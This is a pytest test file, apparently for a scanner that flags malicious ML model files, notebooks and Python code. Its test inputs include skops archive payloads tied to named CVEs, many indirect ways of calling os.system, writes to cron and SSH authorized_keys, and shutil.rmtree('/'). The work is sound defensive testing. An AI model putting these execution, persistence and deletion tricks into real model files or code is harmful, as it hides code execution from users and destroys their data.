    cell = {"cell_type": "markdown", "source": [text]}
    assert levels({"nbformat": 4, "metadata": {}, "cells": [cell]}, "n.ipynb")[0] == level
    state = {"widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"a": {"state": {"value": text}}}}}}
    assert levels({"nbformat": 4, "metadata": state, "cells": []}, "n.ipynb")[0] == level


# ----------------------------------------------------------------------------------------------------------------- skops


def skops(loader: str, module: str, name: str, **more: object) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(
            "schema.json", json.dumps({"__class__": name, "__module__": module, "__loader__": loader, **more})
        )
    return packed.getvalue()


@pytest.mark.parametrize(
    ("data", "level"),
    [
        (skops("ObjectNode", "builtins", "getattr", content=None), "malicious"),
        (skops("FunctionNode", "numpy", "sum", content={"module_path": "os", "function": "system"}), "malicious"),
        (skops("FunctionNode", "numpy", "sum", content={"module_path": "numpy", "function": "sum"}), "clean"),
        (skops("OperatorFuncNode", "builtins", "int", attrs={}), "malicious"),  # CVE-2025-54412
        (
            skops(
                "MethodNode",
                "builtins",
                "int",
                content={"func": "x", "obj": {"__class__": "system", "__module__": "os", "__loader__": "ObjectNode"}},
            ),
            "malicious",
        ),  # CVE-2025-54413
        (PICKLE, "malicious"),  # CVE-2025-54886
    ],
)
def test_skops(data: bytes, level: str) -> None:
    assert levels(data, "model.skops")[0] == level


# ---------------------------------------------------------------------------------------------------------------- Python

RUN = "os.system('true')"


@pytest.mark.parametrize(
    ("code", "level"),
    [
        (f"import os\nf = lambda: {RUN}\nf()\n", "malicious"),
        (f"import os\ndef d(f):\n  {RUN}\n  return f\n@d\ndef x(): pass\n", "malicious"),
        (f"import os\nclass M(type):\n  def __new__(c, *a):\n    {RUN}\nclass A(metaclass=M): pass\n", "malicious"),
        (f"import os\nclass A:\n  def __init_subclass__(c):\n    {RUN}\nclass B(A): pass\n", "malicious"),
        (f"import os\nclass A:\n  def __set_name__(s, o, n):\n    {RUN}\nclass B:\n  x = A()\n", "malicious"),
        (f"import os\nclass A:\n  def __enter__(s): {RUN}\n  def __exit__(s, *a): pass\nwith A(): pass\n", "malicious"),
        (f"import os\ndef __getattr__(n):\n  {RUN}\n", "malicious"),
        (f"import os\nif __name__ != 'x':\n  {RUN}\n", "malicious"),
        (f"import os\nif __name__ == '__main__':\n  {RUN}\n", "suspicious"),
        (f"import os\nclass B:\n  def __init__(s):\n    {RUN}\nclass X(B): pass\n", "suspicious"),
        ("import os\nos.__getattribute__('system')('true')\n", "malicious"),
        ("import operator, os\noperator.attrgetter('system')(os)('true')\n", "malicious"),
        ("import operator, os\noperator.methodcaller('system', 'true')(os)\n", "malicious"),
        ("import pydoc\npydoc.locate('os.system')('true')\n", "malicious"),
        ("import pkgutil\npkgutil.resolve_name('os:system')('true')\n", "malicious"),
        ("import _posixsubprocess\n_posixsubprocess.fork_exec()\n", "malicious"),
        ("import cProfile\ncProfile.run('1')\n", "malicious"),
        ("from numpy.testing._private.utils import runstring\nrunstring('1', {})\n", "malicious"),
        ("open('/etc/cron.d/x', 'w').write('x')\n", "malicious"),
        ("import os\nopen(os.path.expanduser('~/.ssh/authorized_keys'), 'a')\n", "suspicious"),
        ("import shutil\nshutil.rmtree('/')\n", "malicious"),
        ("# coding: cp037\nx\n", "malicious"),
        (
            "import os, math\nfrom torch import nn\nP = os.path.join('a', 'b')\nclass X(nn.Module):\n  def __init__(s, c):\n    s.a = nn.Linear(1, 1)\n",
            "clean",
        ),
        ("def load(p):\n  with open(p) as f:\n    return f.read()\n", "clean"),
    ],
)
def test_python(code: str, level: str) -> None:
    assert levels(code, "modeling.py")[0] == level


def test_python_is_read_whatever_else_its_first_bytes_may_be() -> None:
    assert levels(f"#!/usr/bin/env python\nimport os\n{RUN}\n", "run")[0] is Level.MALICIOUS
    classes = "class A(B): pass\nclass D(E): pass\n"
    assert levels(f"{classes}import os\n{RUN}\n", "modeling.py")[0] is Level.MALICIOUS
    assert levels(classes, "modeling.py") == (Level.CLEAN, set())


LONG = 400_000


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ('{"a": "' + "${eval:" * (LONG // 7) + '"}', "a.json"),
        ("a" * LONG, "pyproject.toml"),
        ("a@" * (LONG // 2), "setup.cfg"),
        (" " * LONG + "\n" * LONG, "pyproject.toml"),
        ('@a = "' + "a." * (LONG // 2), "config.cfg"),
        ("-i" + " " * 19_000, "requirements.txt"),
        (json.dumps({"cells": [{"cell_type": "markdown", "source": "<a " + " on" * (LONG // 3)}]}), "n.ipynb"),
        ("{% unknown %}" + "{{ x " * (LONG // 5), "chat_template.jinja"),
    ],
)
def test_long_texts_that_slow_a_pattern_down_are_read_in_time(text: str, name: str) -> None:
    begun = time.thread_time()
    scan_bytes(text.encode(), name)
    assert time.thread_time() - begun < 2  # the patterns of the first draft took minutes


def test_a_list_of_findings_stays_short_enough_to_be_read() -> None:
    found = scan_bytes(b"tensorfow\n" * 20_000, "requirements.txt")
    assert len(found.signs) <= 101
